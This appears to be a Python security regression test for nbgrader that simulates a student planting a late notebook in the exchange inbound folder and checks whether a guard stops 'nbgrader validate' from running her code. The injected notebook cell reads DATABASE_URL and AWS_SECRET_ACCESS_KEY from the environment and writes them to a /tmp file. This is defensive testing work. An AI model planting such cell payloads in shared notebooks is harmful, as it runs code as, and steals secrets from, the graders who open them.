"""a19: a15 on the exchange: before collecting, the TA checks a late upload in the inbound folder (mallory's own folder,
her file) with `nbgrader validate <exchange>/distcourse/inbound/<her folder>/ps1_memory.ipynb` from her home (no course
config in her ~/.jupyter). Round 38-39's guard refuses both an `inbound` path and another user's notebook, when loaded."""
import os, sys, datetime
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
A = "ps1_memory"; PWN = "/tmp/attack40-user-a19-pwned.txt"
add_accounts()
try:
    X, inbound = make_exchange("a19"); os.chmod(inbound, 0o2733)
    m = honest(A)
    for c in m.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
            c.source = (f"import os\nopen({PWN!r}, 'a').write(f'validate ran mallory as uid {{os.getuid()}}: '"
                        " + os.environ.get('DATABASE_URL', '-') + ' ' + os.environ.get('AWS_SECRET_ACCESS_KEY', '-') + '\\n')\n" + c.source)
    tmp = "/tmp/attack40-user-a19.ipynb"; nbformat.write(m, tmp); os.chmod(tmp, 0o644)
    ts = datetime.datetime.utcnow().strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    folder = f"{inbound}/mallory40u+{A}+{ts}+late"
    open(PWN, "w").close(); os.chmod(PWN, 0o666)
    as_student(2402, f"import os,shutil; os.umask(0o022); os.mkdir({folder!r}); shutil.copy({tmp!r}, {folder!r} + '/{A}.ipynb')")
    os.unlink(tmp)
    home = "/tmp/attack40-user-a19-home"; os.makedirs(home, exist_ok=True); chown(home)
    r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "validate",
                        f"{folder}/{A}.ipynb"], cwd=home, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=home),
                       capture_output=True, text=True, timeout=300)
    print("rc", r.returncode, [l[:200] for l in (r.stdout + r.stderr).splitlines() if "not validating" in l or "Success" in l or "ERROR" in l][:3])
    print("pwned file:", open(PWN).read() or "(empty: her code did not run)")
    shutil.rmtree(home, ignore_errors=True); shutil.rmtree(X, ignore_errors=True); os.unlink(PWN)
finally:
    del_accounts()
